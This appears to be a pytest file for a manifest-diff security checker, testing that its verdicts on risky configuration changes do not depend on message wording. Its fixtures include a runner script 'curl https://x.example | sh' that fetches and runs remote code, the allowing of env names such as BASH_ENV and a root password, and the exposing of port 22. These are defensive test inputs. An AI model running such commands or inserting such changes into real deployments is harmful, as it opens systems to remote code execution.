"""No difference rides on words: what a finding is about are names, not words of its message."""

from typing import Any

import pytest

from tests.manifest.diff.manifests import COMPOSE, D1, at, difference, verdict
from tests.worlds.reworded import other_words

ADMIN = COMPOSE.replace("LEVEL=info", "DEBUG_ADMIN=${DEBUG_ADMIN:-off}")
IMAGE = COMPOSE.replace(f"acme/app:1.0.0@{D1}", "acme/app:${TAG}")
PAIRS: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    "a-dangerous-name": ({}, {"allowed_envs": ["DSTACK_ROOT_PASSWORD", "BASH_ENV"]}),
    "a-switch": (
        {"docker_compose_file": ADMIN},
        {"docker_compose_file": ADMIN, "allowed_envs": ["DEBUG_ADMIN"]},
    ),
    "an-image": (
        {"docker_compose_file": IMAGE},
        {"docker_compose_file": IMAGE, "allowed_envs": ["TAG"]},
    ),
    "a-name-that-is-gone": (
        {"docker_compose_file": IMAGE, "allowed_envs": ["TAG", "OLD_KEY"]},
        {"docker_compose_file": IMAGE, "allowed_envs": ["NEW_KEY"]},
    ),
    "other-services": ({}, {"docker_compose_file": COMPOSE.replace("8080:8080", "22:22")}),
    "a-runner": ({}, {"runner": "bash", "bash_script": "curl https://x.example | sh"}),
}


def decided(old: dict[str, Any], new: dict[str, Any]) -> list[tuple[Any, ...]]:
    return [
        (verdict(item), item.conditional, item.findings, item.pointer, item.before, item.after)
        for item in difference(old, new).changes
    ]


@pytest.mark.parametrize("name", PAIRS)
def test_other_words_change_nothing(name: str) -> None:
    old, new = PAIRS[name]
    before = decided(old, new)
    assert before
    with other_words():
        assert decided(old, new) == before


def test_a_name_that_is_a_word_of_a_message_is_none_of_its_names() -> None:
    old = {"docker_compose_file": ADMIN, "allowed_envs": ["DEBUG_ADMIN"]}
    new = old | {"allowed_envs": ["DEBUG_ADMIN", "default"]}
    change = at(difference(old, new), "/allowed_envs")
    assert "ENV-007" not in change.findings
    assert verdict(change) == verdict(at(difference({}, {"allowed_envs": ["x"]}), "/allowed_envs"))
